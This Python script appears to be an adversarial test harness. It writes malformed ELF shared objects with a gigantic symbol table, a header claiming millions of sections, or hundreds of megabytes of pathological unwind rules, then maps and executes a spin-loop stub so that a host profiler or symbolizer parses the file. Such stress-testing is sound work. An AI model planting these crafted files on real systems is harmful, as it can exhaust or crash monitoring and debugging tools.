# SPDX-License-Identifier: Apache-2.0
"""Maps an ELF file with a build ID that promises far too much, and runs code in it.

dynsym: a table of symbols of 3 GB, in a sparse file. sections: 8 million sections, likewise. unwind: 200 MB of rules to
unwind, each row other than the last.

usage: host_elf.py SECONDS dynsym|sections|unwind BYTES
"""
import ctypes
import mmap
import os
import struct
import sys
import threading
import time

import attack

seconds, kind, total = float(sys.argv[1]), sys.argv[2], int(sys.argv[3])
NAMES = b"\0.eh_frame\0.shstrtab\0"
NOTE_AT, CODE_AT, NAMES_AT, SECTIONS_AT, DATA_AT, CODE_ADDRESS = 0x800, 0x1000, 0x1800, 0x2000, 0x100000, 0x10000000
note = struct.pack("<III4s", 4, 20, 3, b"GNU\0") + os.urandom(20)


def section(*fields):
    return struct.pack("<IIQQQQIIQQ", *fields)


def eh_frame():
    """One CIE, and FDEs whose programs change the frame's size after every byte of code."""
    program = b"".join(b"\x41\x0e" + bytes([16 + 8 * (i % 5)]) for i in range(1300))
    cie = struct.pack("<IB3s", 0, 1, b"zR\0") + bytes([1, 0x78, 16, 1, 0x1b, 0x0c, 7, 8, 0x90, 1])
    cie += b"\0" * ((4 - len(cie)) % 8)
    out, address = bytearray(struct.pack("<I", len(cie)) + cie), CODE_ADDRESS
    padding = b"\0" * ((4 - (13 + len(program))) % 8)
    while len(out) < total:
        at = len(out)
        out += struct.pack("<IIiIB", 13 + len(program) + len(padding), at + 4, (address - (DATA_AT + at + 8)) & 0x7fffffff, 1300, 0)
        out += program + padding
        address += 1300
    return bytes(out + b"\0\0\0\0")


data = eh_frame() if kind == "unwind" else b""
rows = [section(*[0] * 10), section(11, 3, 0, 0, NAMES_AT, len(NAMES), 0, 0, 1, 0)]
if kind == "dynsym":
    rows.append(section(0, 11, 2, 0, 0x10000, total // 24 * 24, 1, 0, 8, 24))
elif kind == "unwind":
    rows.append(section(1, 1, 2, DATA_AT, DATA_AT, len(data), 0, 0, 8, 0))
else:  # the real number is in the first section
    rows[0] = section(0, 0, 0, 0, 0, total // 64, 1, 0, 0, 0)
segments = [struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, DATA_AT, DATA_AT, 4096)]
if kind == "unwind":
    segments.append(struct.pack("<IIQQQQQQ", 1, 5, 0, CODE_ADDRESS, CODE_ADDRESS, DATA_AT, 0x70000000, 4096))
    segments.append(struct.pack("<IIQQQQQQ", 1, 4, DATA_AT, DATA_AT, DATA_AT, len(data), len(data), 4096))
segments.append(struct.pack("<IIQQQQQQ", 4, 4, NOTE_AT, NOTE_AT, NOTE_AT, len(note), len(note), 4))
header = b"\x7fELF\2\1\1" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, SECTIONS_AT, 0, 64, 56, len(segments),
                                                    64, 0 if kind == "sections" else len(rows), 1)
path = os.path.abspath(f"host-{kind}.so")
with open(path, "wb") as f:
    f.truncate(max(DATA_AT + len(data) + 4096, total + (16 << 20) if kind != "unwind" else 0))
    for at, what in ((0, header + b"".join(segments)), (NOTE_AT, note), (CODE_AT, b"\xeb\xfe" * 100), (NAMES_AT, NAMES),
                     (SECTIONS_AT, b"".join(rows)), (DATA_AT, data)):
        f.seek(at)
        f.write(what)
del data
os.chmod(path, 0o755)
with open(path, "rb") as f:
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    attack.wait_for_go()
    code = libc.mmap(None, 8192, mmap.PROT_READ | mmap.PROT_EXEC, mmap.MAP_PRIVATE, f.fileno(), 0)
threading.Thread(target=ctypes.CFUNCTYPE(None)(code + CODE_AT), daemon=True).start()
time.sleep(seconds)
os.unlink(path)
os._exit(0)
